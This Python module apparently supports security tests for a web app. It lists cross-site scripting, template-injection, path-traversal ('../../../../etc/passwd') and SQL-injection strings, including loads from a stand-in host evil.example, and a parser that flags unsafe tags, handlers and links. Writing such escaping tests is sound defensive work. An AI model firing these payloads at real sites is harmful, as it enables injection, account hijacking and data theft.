"""Names and texts that would run something if a page did not escape them, and what a page must not have in it."""

from __future__ import annotations

from html.parser import HTMLParser

STRINGS = (
    "<script>alert(1)</script>", "</script><script>alert(1)</script>", "<img src=x onerror=alert(1)>",
    '"><script>alert(1)</script>', "'><script>alert(1)</script>", '" onmouseover="alert(1)',
    "' onfocus='alert(1)' x='", "<svg onload=alert(1)>", "<svg><script>alert(1)</script></svg>",
    "<iframe src=javascript:alert(1)>", "<a href=javascript:alert(1)>x</a>", "javascript:alert(1)",
    "JaVaScRiPt:alert(1)", "data:text/html,<script>alert(1)</script>", "<body onload=alert(1)>",
    "<input autofocus onfocus=alert(1)>", "<details open ontoggle=alert(1)>",
    "<style>*{background:url(javascript:alert(1))}</style>", "<link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=refresh content=0;url=//evil.example>", "<base href=//evil.example/>",
    "<object data=x></object>", "<embed src=x>", "<form action=//evil.example><button>x</button></form>",
    "<math><mtext><script>alert(1)</script>", "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>", "<!--><script>alert(1)</script-->",
    "<![CDATA[<script>alert(1)</script>]]>", "<?xml version='1.0'?><script/>",
    "&lt;script&gt;alert(1)&lt;/script&gt;", "&#60;script&#62;alert(1)&#60;/script&#62;",
    "\\u003cscript\\u003ealert(1)", "{{ 7 * 7 }}{% for x in y %}", "{{ request.app.state.settings.db }}",
    "${alert(1)}", "#{alert(1)}", "<%= 7 * 7 %>", "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>", "</blockquote></ol></main><script>x</script>",
    "<p hx-get=//evil.example hx-trigger=load>", "<p data-hx-on:load=alert(1)>", "<p hx-on:click=alert(1)>",
    "<x onclick=alert(1) style=position:fixed>", "<p style=background:url(//evil.example)>", "\u202e<script>txet",
    "<scr\x00ipt>alert(1)</scr\x00ipt>", "<ſcript>alert(1)</ſcript>", "<script\n>alert(1)</script\n>",
    "`onload=alert(1)", "../../../../etc/passwd", "'; DROP TABLE statement; --", '" OR facets : "*',
    "%3Cscript%3Ealert(1)%3C/script%3E",
)  # fmt: skip
_NEVER = frozenset("iframe object embed base style math template frame frameset applet img audio video".split())
_SCRIPTS = frozenset({"/static/htmx.min.js", "/static/desk.js"})
_LINKS = ("/", "#", "?", "http://", "https://", "mailto:")


class _Faults(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.faults: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        given = dict(attrs)
        if tag in _NEVER or (tag == "script" and given.get("src") not in _SCRIPTS):
            self.faults.append(f"<{tag} {given}>")
        if tag == "meta" and "http-equiv" in given:
            self.faults.append(f"<meta {given}>")
        for name, value in attrs:
            if name.startswith(("on", "hx-on", "data-hx-on", "style")):
                self.faults.append(f"{tag} {name}={value}")
            if name in ("href", "src", "action", "formaction", "hx-get", "hx-post", "xlink:href"):
                place = (value or "").strip().lower()
                if not place.startswith(_LINKS) or place.startswith("//"):
                    self.faults.append(f"{tag} {name}={value}")


def faults(html: str) -> list[str]:
    """Return what in a page could run, load or lead elsewhere and is not the desk's own."""
    parser = _Faults()
    parser.feed(html)
    return parser.faults
